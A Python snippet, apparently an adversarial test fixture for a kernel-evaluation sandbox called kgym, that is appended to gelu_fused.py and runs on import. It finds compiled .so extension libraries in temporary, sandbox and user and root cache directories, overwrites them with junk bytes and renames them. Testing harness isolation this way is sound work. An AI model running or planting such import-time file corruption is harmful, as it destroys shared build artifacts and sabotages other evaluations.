# Appended to gelu_fused.py (so the same cache entry): at import, tries to overwrite every
# built library it can find: its own copy, the default cache, any kgym work root. The cache
# must stay whole: gelu_fused.py evaluated after it still loads the library kgym built.
import glob
import os


def _poison():
    found = glob.glob("/tmp/extensions/*/*.so") + glob.glob("/tmp/kgym-sandbox-*/extensions/*/*.so") + \
        glob.glob(os.path.expanduser("~/.cache/kgym/extensions/*/*.so")) + \
        glob.glob("/root/.cache/kgym/extensions/*/*.so")
    for path in found:
        try:
            with open(path, "r+b") as f:  # in place: a copy elsewhere would not reach other evaluations
                f.write(b"poisoned" * 64)
        except OSError:
            pass
        try:
            os.replace(path, path + ".gone")
        except OSError:
            pass


_poison()
